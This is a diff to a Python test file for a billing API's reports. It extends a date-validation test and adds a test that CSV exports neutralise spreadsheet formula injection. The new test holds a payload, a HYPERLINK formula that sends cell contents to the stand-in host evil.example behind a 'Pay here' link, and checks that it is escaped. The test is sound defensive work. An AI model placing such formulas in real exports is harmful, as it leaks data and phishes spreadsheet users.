@@ -76,9 +76,36 @@ def test_reports_are_for_admins_and_check_their_dates(start_billing):
     billing = start_billing()
     for path in ("rent-roll", "aging", "revenue"):
         assert billing.client.get(f"/api/billing/reports/{path}", headers=billing.owner(5)).status_code == 403
-    bad = billing.client.get("/api/billing/reports/revenue?from=2026-13-01", headers=billing.admin)
-    assert bad.status_code == 400 and bad.json()["errors"][0]["field"] == "from"
+    for day in ("2026-13-01", "2026-W05-1", "2026-1-011"):  # not a day, or not written YYYY-MM-DD (an ISO week)
+        bad = billing.client.get(f"/api/billing/reports/revenue?from={day}", headers=billing.admin)
+        assert bad.status_code == 400 and bad.json()["errors"][0]["field"] == "from", day
     backwards = billing.client.get("/api/billing/reports/revenue?from=2026-05-01&to=2026-04-01",
                                    headers=billing.admin)
     assert backwards.status_code == 400
     assert billing.client.get("/api/billing/reports/aging?format=xml", headers=billing.admin).status_code == 400
+
+
+def test_the_csv_reports_never_hand_a_spreadsheet_a_formula(start_billing):
+    billing = start_billing()
+    billing.bus.publish("UserRegistered", {"user_id": 5, "email": "a@example.co.ke", "role": "user",
+                                           "name": '=HYPERLINK("http://evil.example/?"&A1,"Pay here")',
+                                           "phone": "254712345678"})
+    billing.bus.publish("UnitCreated", {"unit_id": 1, "unit_number": "@SUM(1+1)", "size": "small",
+                                        "monthly_price": 3000, "bookable": True})
+    wait_for(lambda: billing.rows("SELECT 1 FROM tenants WHERE user_id = 5"), what="tenant")
+    wait_for(lambda: billing.rows("SELECT 1 FROM units WHERE unit_id = 1"), what="unit")
+    start = nairobi_today()
+    billing.confirm_rental(71, start, rate=3000)
+    billing.advance(71, anniversary(start, 1, start.day) + timedelta(days=2))  # owing: in the aging report too
+
+    for report in ("rent-roll", "aging"):
+        text = billing.client.get(f"/api/billing/reports/{report}?format=csv", headers=billing.admin).text
+        [row] = list(csv.DictReader(io.StringIO(text)))
+        # Shown as text by the spreadsheet (the leading apostrophe), never run.
+        assert row["tenant_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Pay here")', report
+        assert row["unit_number"] == "'@SUM(1+1)", report
+        assert int(row["balance" if report == "rent-roll" else "total"]) == 3000
+    # The JSON keeps the names as they are.
+    [json_row] = billing.client.get("/api/billing/reports/rent-roll", headers=billing.admin).json()["data"]
+    assert (json_row["tenant_name"], json_row["unit_number"]) == (
+        '=HYPERLINK("http://evil.example/?"&A1,"Pay here")', "@SUM(1+1)")
